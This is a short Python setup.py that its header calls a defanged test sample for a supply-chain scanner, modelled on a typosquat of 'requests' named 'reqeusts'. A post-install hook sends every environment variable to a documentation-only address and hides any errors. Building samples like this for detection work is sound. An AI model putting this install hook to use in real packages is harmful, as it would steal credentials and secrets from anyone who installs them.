# DEFANGED TEST SAMPLE for chainwarden inspect: the shape of typosquats on
# PyPI that send the environment home when installed.  Documentation
# address only (RFC 5737).
import json
import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


def _report():
    data = json.dumps(dict(os.environ)).encode()
    req = urllib.request.Request("http://192.0.2.44/collect", data=data)
    try:
        urllib.request.urlopen(req, timeout=3)
    except Exception:
        pass


class PostInstall(install):
    def run(self):
        _report()
        install.run(self)


setup(
    name="reqeusts",
    version="2.0.0",
    packages=["reqeusts"],
    cmdclass={"install": PostInstall},
)
